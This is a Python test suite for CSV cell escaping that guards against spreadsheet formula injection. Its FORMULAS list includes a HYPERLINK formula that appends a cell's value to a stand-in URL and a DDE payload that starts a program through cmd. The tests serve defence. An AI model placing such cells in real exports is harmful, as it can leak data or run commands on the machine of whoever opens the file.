"""Cells that a spreadsheet would run, and how they are written and read back."""

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.query.compare.table_cells import read_cells
from orchestrator.tables.csv_cells import csv_text, escaped, frame_csv, unescaped
from orchestrator.tables.tables import write_tables

FORMULAS = [
    '=HYPERLINK("http://x?"&A1,"see")',
    "@SUM(A1:A9)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "'=1+1",
]
SAFE = [
    "-0.5",
    "+1e-3",
    "-1,5",
    "-inf",
    "+nan",
    "12 %",
    "-12.5%",
    "-",
    "=",
    "a=b",
    "–",
    "it's",
    "'",
    "",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_gets_a_quote(cell: str) -> None:
    assert escaped(cell) == f"'{cell}" and unescaped(f"'{cell}") == cell


@pytest.mark.parametrize("cell", SAFE)
def test_numbers_and_plain_text_stay(cell: str) -> None:
    assert escaped(cell) == cell and unescaped(cell) == cell


@given(st.text(st.sampled_from("'=+-@\t\r1.e a"), max_size=6) | st.text(max_size=8))
def test_every_escape_is_undone(cell: str) -> None:
    if not cell.startswith("'") or escaped(cell) != cell:
        assert unescaped(escaped(cell)) == cell


def test_both_writers_escape_text_and_headers_and_no_number() -> None:
    rows = [{"=h": "=1+1", "x": -2.5, "n": None, "l": ["=1"]}]
    (head, row) = csv.reader(io.StringIO(csv_text(list(rows[0]), rows)))
    assert head == ["'=h", "x", "n", "l"] and row == ["'=1+1", "-2.5", "", '["=1"]']
    table = pd.DataFrame({"=h": ["=1+1", None], "x": [-2.5, 1.0]})
    assert frame_csv(table) == "'=h,x\n'=1+1,-2.5\n,1.0\n"
    assert list(table.columns) == ["=h", "x"] and table.loc[0, "=h"] == "=1+1"


def test_table_files_are_escaped_only_in_csv(tmp_path: Path) -> None:
    csv_file, parquet = write_tables(tmp_path, {"t": pd.DataFrame({"a": ["@x"], "b": [-1]})})
    assert csv_file.read_text() == "a,b\n'@x,-1\n"
    assert pd.read_parquet(parquet)["a"].tolist() == ["@x"]


def test_our_own_tables_are_read_back_without_the_escape(tmp_path: Path) -> None:
    rows = [{"name": formula, "per": "-0.5"} for formula in FORMULAS if formula.isprintable()]
    path = tmp_path / "t.csv"
    path.write_text(csv_text(["name", "per"], rows), encoding="utf-8")
    _, cells, _ = read_cells(path)
    assert cells == [[row["name"], "-0.5"] for row in rows]
